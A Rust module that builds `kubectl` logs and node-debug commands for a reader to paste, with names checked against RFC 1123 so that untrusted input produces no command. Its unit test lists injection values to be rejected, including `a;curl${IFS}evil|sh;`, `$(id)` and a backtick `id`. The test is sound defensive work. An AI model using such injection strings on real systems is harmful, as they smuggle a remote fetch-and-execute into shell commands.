//! `kubectl` commands for a reader to paste. Names in them come from strangers' artifacts, so only what can be a name of a
//! Kubernetes object gets in; with anything else there is no command. Rule: RFC 1123 subdomains, as
//! apimachinery's `validation.IsDNS1123Subdomain` has it (node, pod, namespace, container and workload names obey it).

/// A command in the making; one bad name spoils it.
#[derive(Debug, Clone)]
pub struct Kubectl(Option<String>);

impl Kubectl {
    pub fn new() -> Self {
        Kubectl(Some("kubectl".into()))
    }

    /// With `-n`, where the namespace is known.
    pub fn within(namespace: Option<&str>) -> Self {
        match namespace {
            Some(n) => Kubectl::new().say(" -n ").name(n),
            None => Kubectl::new(),
        }
    }

    /// Up to the words for a shell on the node: `kubectl debug` brings one along.
    pub fn on_node(node: &str) -> Self {
        Kubectl::new().say(" debug node/").name(node).say(" -it --image=busybox -- chroot /host ")
    }

    /// Words of our own.
    pub fn say(mut self, words: &str) -> Self {
        if let Some(text) = &mut self.0 {
            text.push_str(words);
        }
        self
    }

    /// A name that an artifact gave.
    pub fn name(self, name: &str) -> Self {
        if is_name(name) { self.say(name) } else { Kubectl(None) }
    }

    /// With `-c`, where the container is known.
    pub fn container(self, container: Option<&str>) -> Self {
        match container {
            Some(c) => self.say(" -c ").name(c),
            None => self,
        }
    }

    pub fn finish(self) -> Option<String> {
        self.0
    }
}

impl Default for Kubectl {
    fn default() -> Self {
        Kubectl::new()
    }
}

/// What an object of Kubernetes may be called (RFC 1123 subdomain).
pub fn is_name(name: &str) -> bool {
    let label = |l: &str| {
        let edge = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_lowercase() || b.is_ascii_digit());
        let b = l.as_bytes();
        edge(b.first()) && edge(b.last()) && b.iter().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || *b == b'-')
    };
    name.len() <= 253 && name.split('.').all(label)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_that_no_object_can_have_gives_no_command() {
        let logs = |ns: &str, pod: &str, c: &str| Kubectl::within(Some(ns)).say(" logs ").name(pod).container(Some(c)).finish();
        assert_eq!(logs("shop", "cart-0", "app").as_deref(), Some("kubectl -n shop logs cart-0 -c app"));
        let id = Kubectl::on_node("ip-10-0-1-7.eu.internal").say("id").finish();
        assert_eq!(id.as_deref(), Some("kubectl debug node/ip-10-0-1-7.eu.internal -it --image=busybox -- chroot /host id"));
        for bad in ["a;curl${IFS}evil|sh;", "$(id)", "-o", "a b", "`id`", "A", "", "a\nb", "..", "a/b"] {
            assert_eq!(logs(bad, "cart-0", "app"), None, "{bad}");
            assert_eq!(logs("shop", bad, "app"), None, "{bad}");
            assert_eq!(logs("shop", "cart-0", bad), None, "{bad}");
        }
    }
}
